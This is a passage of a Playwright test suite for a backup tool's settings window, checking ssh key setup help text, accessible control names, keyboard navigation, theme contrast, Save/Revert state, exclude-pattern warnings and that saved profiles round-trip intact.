    expect(await help.locator('li').allTextContents()).toEqual([
      'root on a router with Dropbear: /opt/etc/dropbear/authorized_keys with Entware’s Dropbear, /etc/dropbear/authorized_keys with OpenWrt’s (or the router’s web page);',
      'any other user, or an OpenSSH server: ~/.ssh/authorized_keys of that user, which ssh-copy-id -i ~/.ssh/id_ed25519.pub admin@192.168.1.1 fills in (add -p 2222 for another ssh port). ssh-copy-id logs in with the account’s password; where the router allows only key logins, paste the .pub line into its web page instead.',
    ]);
    // The rrsync folder is made before the key is restricted: through such a key nothing can.
    expect(await help.locator('p').nth(1).textContent()).toContain(
      'first create that folder on the router (through such a key nothing can create it), ssh admin@192.168.1.1 mkdir /mnt/sda1/backups, then put rrsync in front',
    );
    for (const d of await page.locator('details').all())
      await d.evaluate((e) => e.setAttribute('open', ''));
    await page.getByRole('radio', { name: 'A folder on this computer' }).check();
    await page.getByRole('radio', { name: 'A router or NAS over ssh' }).check();

    // Every page: every control named.
    const controls: string[] = [];
    let tree = '';
    for (const name of PAGES) {
      await goTo(page, name);
      const shown = await page.locator('body').ariaSnapshot();
      tree += shown;
      controls.push(
        ...shown
          .split('\n')
          .map((l) => l.trim())
          .filter((l) =>
            /^- (textbox|checkbox|radio|button|switch|combobox|spinbutton|link|tab)\b/.test(l),
          ),
      );
    }
    expect(controls.length).toBeGreaterThan(60);
    const unnamed = controls.filter((l) => !/^- \w+ "[^"]+"/.test(l));
    expect(unnamed).toEqual([]);
    for (const name of [
      'tablist "Settings pages"',
      'tab "Destination"',
      'textbox "Host"',
      'textbox "rsync on the router"',
      'textbox "Exclude pattern 1"',
      'switch "A backup fails"',
      'switch "Wait for AC power"',
      'switch "Keep owners and special files on a router account that is not root"',
      'switch "When the destination is full, delete the oldest snapshots and try again"',
      'textbox "Keep at least"',
      'textbox "ssh config file"',
      'textbox "Before a backup"',
      'button "Test connection"',
    ]) {
      expect(tree).toContain(name);
    }
    // Every on/off setting is the same switch: the only checkbox left is a confirmation.
    expect(await page.locator('input[type="checkbox"]:not([role="switch"])').count()).toBe(0);
    expect(await page.locator('input[role="switch"]:not(.switch)').count()).toBe(0);

    // On each page, Tab goes from the sidebar through every control in order, each one named,
    // and reaches Save.
    await goTo(page, 'Destination');
    await page.getByLabel('Prefix', { exact: true }).fill('box2');
    const focused: string[] = [];
    for (const name of ['Destination', 'What to back up'] as const) {
      await goTo(page, name);
      await page.getByRole('tab', { name }).focus();
      const stops: string[] = [];
      for (let i = 0; i < 80 && stops.at(-1) !== 'button "Save"'; i++) {
        if (i > 0) await page.keyboard.press('Tab');
        const line =
          (await page.locator(':focus').ariaSnapshot()).split('\n')[0]?.replace(/^- /, '') ?? '';
        // `button "Add Trash": Add` is the button named "Add Trash" showing the word Add.
        stops.push(/^\w+ "[^"]+"/.exec(line)?.[0] ?? line.replace(/:$/, ''));
      }
      expect(stops[0]).toBe(`tab "${name}"`);
      expect(stops.at(-1)).toBe('button "Save"');
      focused.push(...stops);
    }
    expect(focused).toContain('textbox "Paste an ssh command"');
    // "Caches" is in the excludes already, so its button is disabled and skipped.
    expect(focused).toContain('button "Add Trash"');
    expect(focused).not.toContain('button "Caches: added"');
    // A <summary> is named by its own text.
    expect(focused.filter((f) => !/^(\w+ "[^"]+"|text: \S.*)/.test(f))).toEqual([]);
    // Enter in a pattern starts the next one, without reaching for the mouse.
    await page.getByRole('textbox', { name: 'Exclude pattern 2' }).focus();
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    await page.keyboard.type('*.bak');
    expect(await page.getByRole('textbox', { name: 'Exclude pattern 3' }).inputValue()).toBe(
      '*.bak',
    );
    await page.getByRole('button', { name: 'Revert' }).click();
    for (const d of await page.locator('details').all())
      await d.evaluate((e) => e.removeAttribute('open'));

    const backgrounds: Record<string, string> = {};
    const unreadable: string[] = [];
    for (const scheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: scheme });
      backgrounds[scheme] = await page.evaluate(
        () => getComputedStyle(document.body).backgroundColor,
      );
      for (const [i, name] of PAGES.entries()) {
        await goTo(page, name);
        await screenshot(page, `${scheme}-${i + 1}-${name.toLowerCase().replace(/ /g, '-')}`);
        // Every text readable (WCAG AA), in both themes.
        for (const low of await lowContrastTexts(page)) {
          unreadable.push(
            `${scheme} ${name}: "${low.text}" ${low.ratio}:1 (needs ${low.needed}:1; ${low.color} on ${low.background})`,
          );
        }
      }
    }
    expect(unreadable).toEqual([]);
    expect(backgrounds).toEqual({ light: 'rgb(250, 250, 251)', dark: 'rgb(34, 34, 38)' });
    expect(win.problems).toEqual([]);
    await page.close();
  });
  it('walks the sidebar from the keyboard alone, with the focus always visible', async () => {
    const user = await makeUser();
    const win = await open(user);
    const { page } = win;
    const focus = () =>
      page.evaluate(() => {
        const e = document.activeElement as HTMLElement;
        const style = getComputedStyle(e);
        return {
          role: e.getAttribute('role'),
          name: e.textContent,
          visible: e.matches(':focus-visible') && style.outlineStyle !== 'none',
          outline: parseFloat(style.outlineWidth),
        };
      });
    const shownPages = () =>
      page.getByRole('tabpanel').evaluateAll((panels) => panels.map((p) => p.id));
    const selected = () =>
      page
        .getByRole('tab', { selected: true })
        .evaluateAll((tabs) => tabs.map((t) => t.textContent));

    // Tab from the top of the window reaches the profile chooser, its buttons (Remove… is off
    // with one profile), then the current page's entry, and only that one.
    await page.locator('body').click({ position: { x: 600, y: 10 } });
    const chooserStops: Array<string | null> = [];
    for (let i = 0; i < 4; i++) {
      await page.keyboard.press('Tab');
      chooserStops.push(
        await page.evaluate(
          () =>
            document.activeElement?.getAttribute('aria-label') ??
            document.activeElement?.id ??
            null,
        ),
      );
    }
    expect(chooserStops[0]).toMatch(/^profile-\d+$/);
    expect(chooserStops.slice(1)).toEqual([
      'Add a profile',
      'Rename this profile',
      'Duplicate this profile',
    ]);
    expect(
      await page.getByRole('combobox', { name: 'Profile' }).evaluate((e) => e.matches(':focus')),
    ).toBe(false);
    await page.keyboard.press('Tab');
    expect(await focus()).toEqual({ role: 'tab', name: 'Destination', visible: true, outline: 2 });
    expect(await shownPages()).toEqual(['page-destination']);

    const expectPage = async (name: PageName, id: string) => {
      expect(await focus()).toEqual({ role: 'tab', name, visible: true, outline: 2 });
      expect(await selected()).toEqual([name]);
      expect(await shownPages()).toEqual([id]);
      expect(await page.locator('.content-header h2').textContent()).toBe(name);
    };
    await page.keyboard.press('ArrowDown');
    await expectPage('What to back up', 'page-what');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    await expectPage('Keep', 'page-keep');
    await page.keyboard.press('ArrowUp');
    await expectPage('Schedule', 'page-schedule');
    await page.keyboard.press('End');
    await expectPage('Advanced', 'page-advanced');
    await page.keyboard.press('ArrowDown');
    await expectPage('Destination', 'page-destination');
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('ArrowUp');
    await expectPage('Notifications', 'page-notifications');
    await page.keyboard.press('Home');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await expectPage('Schedule', 'page-schedule');
    await page.keyboard.press('Space');
    await expectPage('Schedule', 'page-schedule');
    await screenshot(page, 'sidebar-keyboard-focus');

    // The next Tab goes into the page shown, to its first control.
    await page.keyboard.press('Tab');
    const first = await page.evaluate(() => ({
      label: (document.activeElement as HTMLInputElement | null)?.labels?.[0]?.textContent ?? null,
      page: document.activeElement?.closest('[role="tabpanel"]')?.id ?? null,
      visible: document.activeElement?.matches(':focus-visible') ?? false,
    }));
    expect(first).toEqual({ label: 'Every few hours', page: 'page-schedule', visible: true });
    // Shift+Tab goes back to the sidebar entry of that page.
    await page.keyboard.press('Shift+Tab');
    expect(await focus()).toEqual({ role: 'tab', name: 'Schedule', visible: true, outline: 2 });
    expect(win.problems).toEqual([]);
    await page.close();
  });

  it('enables Save only while something differs from the saved settings', async () => {
    const first = await makeUser();
    const win0 = await open(first);
    // First run: nothing is saved yet, so Save is there to create the file.
    const save0 = win0.page.getByRole('button', { name: 'Save' });
    expect(await save0.isEnabled()).toBe(true);
    expect(await saveStatus(win0.page)).toBe('Not saved yet: Save creates the settings file.');
    await save0.click();
    await win0.page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    expect(existsSync(first.configFile)).toBe(true);
    expect(await save0.isDisabled()).toBe(true);
    await win0.page.close();

    const user = await makeUser();
    await writeSettings(
      user,
      profileWith({ hooks: { pre: 'echo one', after: '', fail: '', timeoutSeconds: 600 } }),
    );
    const win = await open(user);
    const { page } = win;
    const save = page.getByRole('button', { name: 'Save' });
    const revert = page.getByRole('button', { name: 'Revert' });
    const buttons = async () => ({
      save: await save.isEnabled(),
      revert: await revert.isEnabled(),
    });
    expect(await buttons()).toEqual({ save: false, revert: false });
    expect(await page.title()).toBe('Snaptray Settings');

    await goTo(page, 'Advanced');
    const pre = page.getByLabel('Before a backup');
    await pre.fill('echo two');
    expect(await buttons()).toEqual({ save: true, revert: true });
    expect(await page.title()).toBe('Snaptray Settings (unsaved)');
    // Typing the saved value back leaves nothing to save.
    await pre.fill('echo one');
    expect(await buttons()).toEqual({ save: false, revert: false });
    expect(await page.title()).toBe('Snaptray Settings');

    await goTo(page, 'Notifications');
    await page.getByRole('switch', { name: 'A backup starts' }).click();
    expect(await buttons()).toEqual({ save: true, revert: true });
    await revert.click();
    expect(await saveStatus(page)).toBe('Your edits were undone.');
    expect(await buttons()).toEqual({ save: false, revert: false });
    expect(await page.getByRole('switch', { name: 'A backup starts' }).isChecked()).toBe(true);

    // Ctrl+S with nothing to save writes nothing.
    const before = (await stat(user.configFile)).mtimeMs;
    await page.keyboard.press('Control+s');
    expect(await saveStatus(page)).toBe('Your edits were undone.');

    await page.getByRole('switch', { name: 'A backup fails' }).click();
    await page.keyboard.press('Control+s');
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    expect(await buttons()).toEqual({ save: false, revert: false });
    expect((await stat(user.configFile)).mtimeMs).toBeGreaterThan(before);
    const written = JSON.parse(await readFile(user.configFile, 'utf8')) as {
      profiles: { default: Profile };
    };
    expect(written.profiles.default.notifications.failed).toBe(false);
    expect(win.problems).toEqual([]);
    await page.close();
  });

  it('warns about a pattern the user wrote that matches nothing, never about a preset one', async () => {
    const user = await makeUser();
    await writeTree(user.home, { 'docs/notes.md': 'notes', 'docs/letter.txt': 'letter' });
    const win = await open(user);
    const { page } = win;
    await goTo(page, 'What to back up');
    const warnings = () =>
      page
        .locator('#excludes .field-warning')
        .evaluateAll((slots) =>
          slots
            .filter((s) => !(s as HTMLElement).hidden)
            .map((s) => s.getAttribute('data-warning-for')),
        );

    // Every pattern of this preset matches nothing in this home.
    await page.getByRole('button', { name: 'Add node_modules and build outputs' }).click();
    const patterns = page.getByRole('textbox', { name: /^Exclude pattern/ });
    const presetPatterns = await patterns.evaluateAll((els) =>
      els.map((e) => (e as HTMLTextAreaElement).value),
    );
    expect(presetPatterns.length).toBeGreaterThan(3);
    // The totals do not change (the preset leaves nothing out), so wait for rsync's new answer.
    await expect.poll(() => previewStatus(page)).toBe(PREVIEW_DONE);
    expect(await shownTotals(page)).toEqual(await rsyncDryRunTotals([user.home], presetPatterns));
    expect(await warnings()).toEqual([]);

    // A pattern typed by hand that matches nothing is flagged, and not refused.
    await page.getByRole('button', { name: 'Add pattern' }).click();
    const typed = page.getByRole('textbox', {
      name: `Exclude pattern ${presetPatterns.length + 1}`,
    });
    await typed.fill('*.mdx');
    await expect
      .poll(() => describedBy(typed, 'field-warning'))
      .toBe('Matches nothing in the sources right now.');
    expect(await warnings()).toEqual([`excludes.${presetPatterns.length}`]);
    expect(await describedBy(typed, 'field-error')).toBe('');
    await screenshot(page, 'excludes-typed-pattern-warning');
    await typed.fill('*.md');
    await expect.poll(warnings).toEqual([]);
    expect(await shownTotals(page)).toEqual(
      await rsyncDryRunTotals([user.home], [...presetPatterns, '*.md']),
    );

    // A preset pattern edited by hand is the user's own: a typing mistake there is flagged.
    const pycache = page.getByRole('textbox', {
      name: `Exclude pattern ${presetPatterns.indexOf('__pycache__/') + 1}`,
    });
    await pycache.fill('__pycache_/');
    await expect
      .poll(() => describedBy(pycache, 'field-warning'))
      .toBe('Matches nothing in the sources right now.');
    expect(win.problems).toEqual([]);
    await page.close();
  });
  it('saves back every field of the profile, shown or not, when one thing changes', async () => {
    const user = await makeUser();
    const everything: Profile = {
      sources: [user.home, '/srv/data'],
      destination: 'backup@[fd00::2]:/mnt/sda1/snaptray',
      prefix: 'univac',
      ssh: {
        port: 2222,
        identityFile: '/home/ben/.ssh/snaptray',
        knownHostsFile: '/etc/snaptray/known_hosts',
        configFile: '/etc/snaptray/ssh_config',
        rsyncPath: '/opt/bin/rsync',
      },
      excludes: ['/proc/*', '*.iso'],
      rsync: {
        acls: true,
        xattrs: true,
        oneFileSystem: true,
        compress: true,
        bandwidthLimit: 5000,
        gentle: false,
        fakeSuper: true,
      },
      retention: {
        keepAllHours: 48,
        dailyDays: 30,
        weeklyWeeks: 10,
        monthlyMonths: 24,
        maxAgeDays: 730,
        makeRoom: true,
        makeRoomKeep: 5,
      },
      schedule: {
        mode: 'daily',
        everyHours: 6,
        dailyAt: '02:30',
        catchUp: false,
        waitForAC: true,
        skipWhenUnreachable: false,
      },
      hooks: {
        pre: 'echo "before $SNAPTRAY_PROFILE"',
        after: 'notify-send done',
        fail: 'logger -t snaptray failed',
        timeoutSeconds: 120,
      },
      notifications: {
        started: false,
        finished: false,
        partial: false,
        failed: false,
        skipped: false,
        overdue: false,
        otherMachinesOverdue: true,
      },
      overdueDays: 7,
    };
    // The fixture really sets every field away from its default.
    const defaults = leaves(defaultProfile());
    const set = leaves(everything);
    expect(Object.keys(set).sort()).toEqual(Object.keys(defaults).sort());
    expect(Object.keys(set).filter((k) => set[k] === defaults[k])).toEqual([]);
    await writeSettings(user, everything);

    const win = await open(user);
    const { page } = win;
    const save = page.getByRole('button', { name: 'Save' });
    // The window shows the file exactly: nothing differs, nothing to save.
    expect(await save.isDisabled()).toBe(true);
    // The number of snapshots to keep is editable only while making room is on.
    await goTo(page, 'Keep');
    const makeRoom = page.getByRole('switch', {
      name: /When the destination is full/,
    });
    const keepAtLeast = page.getByLabel('Keep at least');
    expect(await keepAtLeast.isEnabled()).toBe(true);
    expect(await keepAtLeast.inputValue()).toBe('5');
    await makeRoom.click();
    expect(await keepAtLeast.isDisabled()).toBe(true);
    await makeRoom.click();
    expect(await keepAtLeast.isEnabled()).toBe(true);
    expect(await save.isDisabled()).toBe(true);

    await goTo(page, 'Notifications');
    await page.getByRole('switch', { name: 'A backup fails' }).click();
    await save.click();
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    const written = JSON.parse(await readFile(user.configFile, 'utf8')) as {
      profiles: { default: Profile };
    };
    expect(written.profiles.default).toEqual({
      ...everything,
      notifications: { ...everything.notifications, failed: true },
    });
    expect(win.problems).toEqual([]);
    await page.close();
  });
});

/** Every leaf of a profile by its dotted path (lists as whole values). */
function leaves(value: object, path = ''): Record<string, string> {
  const out: Record<string, string> = {};
  for (const [key, v] of Object.entries(value)) {
    const at = path ? `${path}.${key}` : key;
    if (v !== null && typeof v === 'object' && !Array.isArray(v)) Object.assign(out, leaves(v, at));
    else out[at] = JSON.stringify(v);
  }
  return out;
}
